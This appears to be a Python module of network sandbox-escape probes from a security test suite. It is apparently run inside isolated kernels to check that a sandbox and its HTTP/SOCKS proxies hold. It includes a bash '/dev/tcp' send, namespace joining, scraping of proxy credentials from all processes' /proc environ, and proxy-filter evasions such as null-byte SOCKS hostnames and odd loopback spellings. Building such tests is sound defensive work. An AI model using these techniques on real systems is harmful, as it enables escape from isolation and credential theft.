"""What hostile code tries on the network. Kernels get this module as it is.

The functions that reach somebody send `word` there; whoever listens knows from that that they were reached.
"""

import base64
import errno
import json
import os
import re
import shutil
import socket
import struct
import subprocess
import urllib.request
from collections.abc import Callable
from contextlib import suppress
from glob import glob
from pathlib import Path

from tests.security.attack_tools import first, in_child, libc

SECONDS = 3.0

AF_PACKET, ETH_P_ALL = 17, 0x0003
NETLINK_ROUTE, RTM_GETROUTE, NLM_F_REQUEST, NLM_F_DUMP, NLMSG_DONE, NLMSG_ERROR = 0, 26, 1, 0x300, 3, 2
RT_TABLE_MAIN = 254
CLONE_NEWNET = 0x40000000

#: Where srt's proxies listen, inside.
PROXY_PORTS = (3128, 1080)


# --- tools


def send(family: int, kind: int, address: tuple[str, int] | str | bytes, word: str) -> str:
    with socket.socket(family, kind) as connection:
        connection.settimeout(SECONDS)
        connection.connect(address)
        connection.sendall(word.encode())
        return f"sent {word} to {address!r}"


# --- to reach a listener


def tcp(host: str, port: str, word: str) -> str:
    return send(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM, (host, int(port)), word)


def udp(host: str, port: str, word: str) -> str:
    return send(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM, (host, int(port)), word)


def fast_open(host: str, port: str, word: str) -> str:
    with socket.socket() as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", int(SECONDS), 0))
        connection.sendto(word.encode(), socket.MSG_FASTOPEN, (host, int(port)))
        return f"sent {word}"


def multipath(host: str, port: str, word: str) -> str:
    """Multipath TCP, or TCP where the kernel has none."""
    with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as connection:
        connection.settimeout(SECONDS)
        connection.connect((host, int(port)))
        connection.sendall(word.encode())
        return f"sent {word}"
    return tcp(host, port, word)


def mapped(host: str, port: str, word: str) -> str:
    return tcp(f"::ffff:{host}", port, word)


def from_a_program(host: str, port: str, word: str) -> str:
    command = ["bash", "-c", f"echo {word} > /dev/tcp/{host}/{port}"]
    done = subprocess.run(command, capture_output=True, text=True, timeout=10, check=False)
    if done.returncode != 0:
        raise OSError(done.stderr)
    return f"sent {word}"


def http(host: str, port: str, word: str) -> str:
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(f"http://{host}:{port}/{word}", timeout=SECONDS) as answer:
        return answer.read().decode()


def through_all_addresses_of_loopback(port: str, word: str) -> str:
    hosts = ("127.0.0.1", "127.0.0.2", "127.255.255.254", "0.0.0.0", "::1", "::", "localhost", socket.gethostname())
    return first([lambda host=host: tcp(host, port, word) for host in hosts])


def dns_query(host: str, port: str, word: str) -> str:
    """Asks a name server for a name that carries the word out, and returns the answer."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in (word, "example", "org"))
    query = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(SECONDS)
        connection.connect((host, int(port)))
        connection.send(query)
        return connection.recv(512).decode("latin-1")


def icmp(host: str) -> str:
    """Gets an ICMP message back from a host: an echo, or what a closed port of UDP answers."""

    def echo(kind: int) -> str:
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as connection:
            connection.settimeout(SECONDS)
            body = struct.pack(">BBHHH", 8, 0, 0, 1, 1)
            checksum = ~sum(struct.unpack(">4H", body)) & 0xFFFF
            connection.sendto(struct.pack(">BBHHH", 8, 0, checksum, 1, 1), (host, 0))
            connection.recv(512)
            return f"an echo of {host}"

    def refused() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
            connection.settimeout(SECONDS)
            connection.connect((host, 9))
            connection.send(b"x")
            try:
                connection.recv(512)
            except ConnectionRefusedError:
                return f"{host} says that its port is closed"
            return f"an answer of {host}"

    return first([lambda: echo(socket.SOCK_RAW), lambda: echo(socket.SOCK_DGRAM), refused])


def packets() -> str:
    with socket.socket(AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)):
        return "can see all packets"


def raw_packets() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW):
        return "can make packets"


def other_network_namespaces(port: str, word: str) -> str:
    def join(path: str) -> str:
        libc.setns(os.open(path, os.O_RDONLY), CLONE_NEWNET)
        return tcp("127.0.0.1", port, word)

    namespaces = [*glob("/proc/[0-9]*/ns/net"), "/proc/self/ns/net"]
    return first([lambda path=path: in_child(join, path) for path in namespaces])


# --- Unix sockets


def unix_stream(path: str, word: str) -> str:
    return send(socket.AF_UNIX, socket.SOCK_STREAM, path, word)


def unix_packets(path: str, word: str) -> str:
    return send(socket.AF_UNIX, socket.SOCK_SEQPACKET, path, word)


def unix_datagram(path: str, word: str) -> str:
    return send(socket.AF_UNIX, socket.SOCK_DGRAM, path, word)


def abstract_stream(name: str, word: str) -> str:
    return send(socket.AF_UNIX, socket.SOCK_STREAM, b"\0" + name.encode(), word)


def abstract_datagram(name: str, word: str) -> str:
    return send(socket.AF_UNIX, socket.SOCK_DGRAM, b"\0" + name.encode(), word)


def datagram_of_a_pair(path: str, word: str) -> str:
    """One end of a pair of datagram sockets sends elsewhere than to the other end."""
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with one, other:
        one.sendto(word.encode(), path)
        return f"sent {word}"


def datagram_of_a_raw_pair(path: str, word: str) -> str:
    """A raw Unix socket is one for datagrams."""
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_RAW)
    with one, other:
        one.sendto(word.encode(), path)
        return f"sent {word}"


def abstract_datagram_of_a_pair(name: str, word: str) -> str:
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with one, other:
        one.sendto(word.encode(), b"\0" + name.encode())
        return f"sent {word}"


def connected_anew(path: str, word: str) -> str:
    """A socket of a pair connects again, after the other end is gone; a new one where that is no way."""

    def again(kind: int) -> str:
        one, other = socket.socketpair(socket.AF_UNIX, kind)
        other.close()
        with one:
            one.connect(path)
            one.sendall(word.encode())
            return f"sent {word}"

    return first([lambda: again(socket.SOCK_STREAM), lambda: unix_stream(path, word)])


def inherited_unix_sockets(path: str, word: str) -> str:
    """A Unix socket that the process has already, or a new one, connects to a path."""

    def use(fd: int) -> str:
        with socket.socket(fileno=os.dup(fd)) as found:
            if found.family is not socket.AF_UNIX:
                raise OSError("no Unix socket")
            found.sendto(word.encode(), path)
            return f"sent {word}"

    fds = [int(name) for name in os.listdir("/proc/self/fd")]
    return first([*(lambda fd=fd: use(fd) for fd in fds), lambda: unix_stream(path, word)])


def unix_socket_of_a_program(path: str, word: str) -> str:
    command = ["socat", "-u", "STDIN", f"UNIX-CONNECT:{path}"]
    done = subprocess.run(command, input=word, capture_output=True, text=True, timeout=10, check=False)
    if done.returncode != 0:
        raise OSError(done.stderr)
    return f"sent {word}"


# --- to look around


def routes() -> str:
    """Returns what leads anywhere but to loopback: from /proc, from netlink and, if it is there, from `ip route`."""
    found = Path("/proc/net/route").read_text().splitlines()[1:]
    found += [line for line in Path("/proc/net/ipv6_route").read_text().splitlines() if not line.endswith(" lo")]
    found += netlink_routes()
    if shutil.which("ip"):
        done = subprocess.run(["ip", "route"], capture_output=True, text=True, timeout=10, check=True)
        found += done.stdout.splitlines()
    return "\n".join(filter(None, map(str.strip, found)))


def netlink_routes() -> list[str]:
    """Returns the main table of IPv4, hexadecimal."""
    found: list[str] = []
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_ROUTE) as connection:
        connection.settimeout(SECONDS)
        header = struct.pack("=IHHII", 28, RTM_GETROUTE, NLM_F_REQUEST | NLM_F_DUMP, 1, 0)
        connection.send(header + struct.pack("=B11x", socket.AF_INET))
        while True:
            data = connection.recv(1 << 16)
            while data:
                size, kind = struct.unpack_from("=IH", data)
                if kind in (NLMSG_DONE, NLMSG_ERROR):
                    return found
                if data[20] == RT_TABLE_MAIN:
                    found.append(data[28:size].hex())
                data = data[(size + 3) & ~3 :]


def interfaces() -> str:
    return "\n".join(name for _, name in socket.if_nameindex() if name != "lo")


def listening_ports() -> str:
    """Returns the ports of TCP that somebody listens on, here."""
    ports: set[int] = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            _, local, _, state = line.split()[:4]
            if state == "0A":
                ports.add(int(local.rpartition(":")[2], 16))
    return " ".join(map(str, sorted(ports)))


def kernel_ports() -> str:
    """Returns the ports of the channels of this kernel and of a spare one; none where they are files."""
    arguments = Path("/proc/self/cmdline").read_text().split("\0")
    own = Path(next(each for each in arguments if each.endswith(".json")))
    connections = [json.loads(each.read_text()) for each in own.parent.parent.glob("*/kernel-*.json")]
    return " ".join(str(port) for each in connections for name, port in each.items() if name.endswith("_port"))


def open_ports(*ports: str) -> str:
    """Returns those of the ports that somebody answers on."""
    found: list[str] = []
    for port in ports:
        for host in ("127.0.0.1", "::1"):
            with suppress(OSError):
                tcp(host, port, "")
                found.append(port)
    return " ".join(dict.fromkeys(found))


def reachable(*addresses: str) -> str:
    """Returns those of the addresses that the kernel knows a way to."""
    found: list[str] = []
    for address in addresses:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        with socket.socket(family, socket.SOCK_STREAM) as connection:
            connection.setblocking(False)
            if connection.connect_ex((address, 80)) != errno.ENETUNREACH:
                found.append(address)
    return " ".join(found)


def resolve(name: str) -> str:
    return " ".join(sorted({str(found[4][0]) for found in socket.getaddrinfo(name, 80)}))


# --- through srt's proxies


def proxy_credentials() -> list[tuple[str, str]]:
    """Returns those of the environments of all processes, beginning with our own."""
    found: dict[tuple[str, str], None] = {}
    for file in ("/proc/self/environ", *glob("/proc/[0-9]*/environ"), *glob("/proc/[0-9]*/cmdline")):
        with suppress(OSError):
            for user, password in re.findall(r"://([^:/@\s\0]+):([^@/\s\0]+)@", Path(file).read_text(errors="replace")):
                found[user, password] = None
    return list(found)


def credentials() -> str:
    if not (found := proxy_credentials()):
        raise OSError("no credentials of a proxy")
    return repr(found)


def _through_proxies(attempt: Callable[[socket.socket, tuple[str, str] | None], str]) -> str:
    def through(port: int, login: tuple[str, str] | None) -> str:
        with socket.create_connection(("127.0.0.1", port), SECONDS) as connection:
            connection.settimeout(SECONDS)
            return attempt(connection, login)

    logins = proxy_credentials() or [None]
    return first([lambda port=port, login=login: through(port, login) for port in PROXY_PORTS for login in logins])


def _login_header(login: tuple[str, str] | None) -> str:
    if login is None:
        return ""
    return f"Proxy-Authorization: Basic {base64.b64encode(':'.join(login).encode()).decode()}\r\n"


def _receive(connection: socket.socket, until: bytes) -> bytes:
    data = b""
    while until not in data and (more := connection.recv(65536)):
        data += more
    return data


def connect_method(host: str, port: str, word: str) -> str:
    def attempt(connection: socket.socket, login: tuple[str, str] | None) -> str:
        target = f"[{host}]:{port}" if ":" in host else f"{host}:{port}"
        request = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n{_login_header(login)}\r\n"
        connection.sendall(request.encode("latin-1"))
        answer = _receive(connection, b"\r\n\r\n")
        if not answer.startswith(b"HTTP/1.1 200"):
            raise OSError(answer.decode(errors="replace"))
        connection.sendall(word.encode())
        return f"sent {word}"

    return _through_proxies(attempt)


def proxied_get(host: str, port: str, word: str) -> str:
    return proxied_get_with_another_host(host, port, f"{host}:{port}", word)


def proxied_get_with_another_host(host: str, port: str, header: str, word: str) -> str:
    def attempt(connection: socket.socket, login: tuple[str, str] | None) -> str:
        url = f"http://{host}:{port}/{word}"
        request = f"GET {url} HTTP/1.1\r\nHost: {header}\r\n{_login_header(login)}Connection: close\r\n\r\n"
        connection.sendall(request.encode())
        answer = _receive(connection, b"\r\n\r\n")
        if b" 200 " not in answer[:20]:
            raise OSError(answer.decode(errors="replace"))
        return answer.decode(errors="replace")

    return _through_proxies(attempt)


def second_request(allowed: str, host: str, port: str, word: str) -> str:
    """Asks for another host in a connection whose first request was for one that is allowed."""

    def attempt(connection: socket.socket, login: tuple[str, str] | None) -> str:
        for target, path in ((allowed, ""), (f"{host}:{port}", word)):
            connection.sendall(
                f"GET http://{target}/{path} HTTP/1.1\r\nHost: {target}\r\n{_login_header(login)}\r\n".encode()
            )
            answer = _receive(connection, b"\r\n\r\n")
            if b" 200 " not in answer[:20]:
                raise OSError(answer.decode(errors="replace"))
            if b"\0" not in answer:
                _receive(connection, b"\0")
        return f"asked for {word}"

    return _through_proxies(attempt)


def socks(host: str, port: str, word: str) -> str:
    """SOCKS 5, where the name of the host is bytes with a length: `\\0` in it is no end."""
    name = host.encode("latin-1")
    return _socks(b"\x03" + bytes([len(name)]) + name, port, word)


def socks_with_a_null_byte(allowed: str, host: str, port: str, word: str) -> str:
    return first(
        [
            lambda name=name: socks(name, port, word)
            for name in (f"{host}\0{allowed}", f"{host}\0.{allowed}", f"{allowed}\0{host}", f"{host}\0", host)
        ]
    )


def socks_to_an_address(host: str, port: str, word: str) -> str:
    family, kind = (socket.AF_INET6, b"\x04") if ":" in host else (socket.AF_INET, b"\x01")
    return _socks(kind + socket.inet_pton(family, host), port, word)


def _socks(target: bytes, port: str, word: str) -> str:
    def attempt(connection: socket.socket, login: tuple[str, str] | None) -> str:
        connection.sendall(b"\x05\x01\x00" if login is None else b"\x05\x01\x02")
        connection.recv(2)
        if login is not None:
            user, password = (part.encode() for part in login)
            connection.sendall(b"\x01" + bytes([len(user)]) + user + bytes([len(password)]) + password)
            connection.recv(2)
        connection.sendall(b"\x05\x01\x00" + target + struct.pack(">H", int(port)))
        answer = connection.recv(512)
        if len(answer) < 2 or answer[1] != 0:
            raise OSError(f"SOCKS: {answer!r}")
        connection.sendall(word.encode())
        return f"sent {word}"

    return _through_proxies(attempt)


def other_names_of_loopback(port: str, word: str) -> str:
    """Spellings of 127.0.0.1 that a filter may not know, by all ways through the proxies."""
    names = (
        *(
            "127.0.0.1",
            "127.1",
            "0x7f000001",
            "2130706433",
            "017700000001",
            "0",
            "0.0.0.0",
            "127.0.0.1.",
            "[::1]",
            "::1",
        ),
        *("::ffff:127.0.0.1", "localhost", "LOCALHOST", "localhost.", "ip6-localhost", "127.0.0.1%25lo", "①②⑦.0.0.1"),
    )
    ways = (connect_method, proxied_get, socks)

    def attempt(way: Callable[[str, str, str], str], name: str) -> str:
        try:
            return way(name, port, word)
        except ValueError as exc:
            raise OSError(str(exc)) from exc

    return first([lambda way=way, name=name: attempt(way, name) for way in ways for name in names])
